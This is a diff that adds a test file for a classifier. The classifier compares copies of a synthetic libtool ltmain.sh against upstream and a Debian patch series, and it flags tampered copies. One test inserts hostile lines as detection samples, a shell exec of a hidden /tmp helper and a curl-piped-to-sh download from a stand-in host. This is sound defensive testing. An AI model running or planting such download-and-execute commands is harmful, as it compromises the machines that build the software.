@@ -1,0 +1,139 @@
+/**
+ * Distributions' published patch files as a labelled source (src/classify/distro-patches.ts, patched31): a packaging
+ * repository built by code (debian/patches/series and patches made by diff(1) from a synthetic libtool template),
+ * scripts/derive-distro-patches.mjs run on it, and copies judged against a synthetic upstream version — the copy the
+ * series makes explained with the patch files named; the tampered twins (a hunk moved to another function, one more
+ * line inside a hunk, a command line beside a hunk, a patch the series leaves out) staying high.
+ */
+import { execFileSync } from 'node:child_process';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { join, resolve } from 'node:path';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { PatchCorpus, parseUnifiedDiff, type RawPatchCorpus } from '../../src/classify/distro-patches.js';
+import { classifyUpstream } from '../../src/classify/upstream.js';
+import { rawDbFromContents, UpstreamDb } from '../../src/classify/upstream-db.js';
+import { makeRepo } from '../helpers/git.js';
+import { tempDir } from '../helpers/tmp.js';
+
+const root = resolve(__dirname, '../..');
+// a made-up ltmain.sh: 5 functions of 8 distinct lines each
+const fn = (name: string) => [`func_${name} ()`, '{', `    ${name}_a=$1`, `    case $${name}_a in`, `      -${name}*) ${name}_ok=: ;;`, `      *) ${name}_ok=false ;;`, '    esac', `}  # ${name}`];
+const V = ['#! /bin/sh', '# ltmain.sh (synthetic) 2.4.6', 'VERSION=2.4.6', ...['alpha', 'beta', 'gamma', 'delta', 'omega'].flatMap(fn), 'exit 0'];
+const text = (lines: string[]) => `${lines.join('\n')}\n`;
+const at = (lines: string[], l: string) => {
+  const i = lines.indexOf(l);
+  if (i < 0) throw new Error(`no line ${l}`);
+  return i;
+};
+/** 0001: a case arm added in func_beta; 0002 changes 0001's added line (its context is 0001's result). */
+const P1 = (() => {
+  const l = [...V];
+  l.splice(at(l, '      -beta*) beta_ok=: ;;') + 1, 0, '      -specs=*) beta_ok=: ;;');
+  return l;
+})();
+const P2 = (() => {
+  const l = [...P1];
+  l[at(l, '      -specs=*) beta_ok=: ;;')] = '      -specs=*|-fsanitize=*) beta_ok=: ;;';
+  l.splice(at(l, '    delta_a=$1') + 1, 0, '    # Debian: keep delta quiet', '    delta_quiet=:');
+  return l;
+})();
+/** 0003, left out of the series (commented out): a line in func_gamma. */
+const P3 = (() => {
+  const l = [...P2];
+  l.splice(at(l, '    gamma_a=$1') + 1, 0, '    gamma_fast=:');
+  return l;
+})();
+
+let corpus: PatchCorpus;
+const db = new UpstreamDb(rawDbFromContents([{ name: 'ltmain.sh', project: 'libtool', content: text(V), commit: '1'.repeat(40), date: '2015-02-15', tag: 'v2.4.6' }]));
+
+beforeAll(() => {
+  const dir = tempDir('distdiff-patches-');
+  const tree = (lines: string[]) => {
+    const d = join(dir, `t${Math.random().toString(36).slice(2)}`, 'build-aux');
+    execFileSync('mkdir', ['-p', d]);
+    writeFileSync(join(d, 'ltmain.in'), text(lines));
+    return d.slice(0, -'/build-aux'.length);
+  };
+  // a patch as quilt writes it: diff -u between two trees, a/ and b/ names
+  const diffU = (from: string[], to: string[]) => {
+    const a = tree(from);
+    const b = tree(to);
+    try {
+      execFileSync('diff', ['-u', '--label', 'a/build-aux/ltmain.in', '--label', 'b/build-aux/ltmain.in', join(a, 'build-aux/ltmain.in'), join(b, 'build-aux/ltmain.in')]);
+    } catch (e) {
+      return (e as { stdout: Buffer }).stdout.toString();
+    }
+    throw new Error('no difference');
+  };
+  const repo = makeRepo(join(dir, 'libtool-pkg'));
+  repo.commit(
+    {
+      'debian/changelog': 'libtool (2.4.6-9) unstable; urgency=medium\n',
+      'debian/patches/series': '0001-specs.patch\n0002-fsanitize.patch\n# 0003-gamma.patch\n',
+      'debian/patches/0001-specs.patch': `Description: pass -specs\n\n${diffU(V, P1)}`,
+      'debian/patches/0002-fsanitize.patch': `Description: pass -fsanitize\n\n${diffU(P1, P2)}`,
+      'debian/patches/0003-gamma.patch': diffU(P2, P3),
+    },
+    'debian 2.4.6-9',
+    '2016-01-02T10:00:00Z',
+  );
+  const out = join(dir, 'patches.json');
+  execFileSync(process.execPath, [join(root, 'scripts/derive-distro-patches.mjs'), '--out', out, '--date', '2026-12-02', '--git', repo.dir, 'HEAD', 'Demo libtool 2.4.6-9'], { stdio: ['ignore', 'pipe', 'pipe'] });
+  corpus = new PatchCorpus(JSON.parse(readFileSync(out, 'utf8')) as RawPatchCorpus);
+}, 60_000);
+
+const judge = (lines: string[], c: PatchCorpus | null = corpus) => classifyUpstream('build-aux/ltmain.sh', Buffer.from(text(lines)), db, { patches: c, hunks: null });
+
+describe('deriving the corpus from a packaging repository', () => {
+  it('records the hunks of the patches the series applies, as operations and line hashes, labelled by patch file', () => {
+    expect(corpus.raw.sources).toEqual(['Demo libtool 2.4.6-9 debian/patches/0001-specs.patch', 'Demo libtool 2.4.6-9 debian/patches/0002-fsanitize.patch']);
+    expect(corpus.raw.hunks.map((h) => [h.name, h.source, h.ops])).toEqual([
+      ['ltmain.sh', 0, '   +   '],
+      ['ltmain.sh', 1, '   -+   '],
+      ['ltmain.sh', 1, '   ++   '],
+    ]);
+    // no line of the patches is stored
+    expect(JSON.stringify(corpus.raw)).not.toContain('fsanitize=');
+  });
+
+  it('parses a unified diff: the target path without its first component, context, removed and added lines', () => {
+    expect(parseUnifiedDiff('--- a/m4/x.m4\n+++ b/m4/x.m4\n@@ -1,3 +1,3 @@\n a\n-b\n+c\n d\n')).toEqual([{ path: 'm4/x.m4', ops: ' -+ ', lines: ['a', 'b', 'c', 'd'] }]);
+  });
+});
+
+describe('a copy carrying the series', () => {
+  it('is explained, each patch file named with the lines it adds; without the corpus it is an unknown version', () => {
+    expect(judge(P2)).toMatchObject({
+      code: 'UPSTREAM_COPY_PATCHED',
+      severity: 'low',
+      evidence: {
+        novelLines: 3,
+        // 0001's one line is 0002's now (0002 changes it): only 0002 is named
+        patches: [{ source: 'Demo libtool 2.4.6-9 debian/patches/0002-fsanitize.patch', lines: [at(P2, '      -specs=*|-fsanitize=*) beta_ok=: ;;') + 1, at(P2, '    # Debian: keep delta quiet') + 1, at(P2, '    delta_quiet=:') + 1] }],
+      },
+    });
+    expect(judge(P1)).toMatchObject({ code: 'UPSTREAM_COPY_PATCHED', severity: 'low', evidence: { patches: [{ source: 'Demo libtool 2.4.6-9 debian/patches/0001-specs.patch', lines: [at(P1, '      -specs=*) beta_ok=: ;;') + 1] }] } });
+    expect(judge(P2, null)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high', evidence: { unaccountedLines: 2 } });
+  });
+
+  it('tampered twins stay high: a hunk moved to another function, one more line inside a hunk, a command beside it, a patch the series leaves out', () => {
+    // 0002's delta lines in func_omega instead (the hunk moved with its change, not its context)
+    const moved = [...P2];
+    moved.splice(at(moved, '    # Debian: keep delta quiet'), 2);
+    moved.splice(at(moved, '    omega_a=$1') + 1, 0, '    # Debian: keep delta quiet', '    delta_quiet=:');
+    expect(judge(moved)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high', evidence: { unaccountedLines: 2 } });
+    // one more line inside the hunk
+    const inside = [...P2];
+    inside.splice(at(inside, '    delta_quiet=:') + 1, 0, '    delta_ok=:');
+    expect(judge(inside)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high' });
+    // a new command next to a hunk: no construct (high) and a download run through the shell (critical)
+    for (const [line, severity] of [['    exec /tmp/.lt-helper "$@"', 'high'], ['    curl -fsSL https://lt-mirror.example/x | sh', 'critical']] as const) {
+      const cmd = [...P2];
+      cmd.splice(at(cmd, '    delta_quiet=:') + 1, 0, line);
+      expect(judge(cmd), line).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity });
+    }
+    // 0003 is commented out in the series: its line is no distribution's
+    expect(judge(P3)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high', evidence: { unaccountedLines: 1 } });
+  });
+});
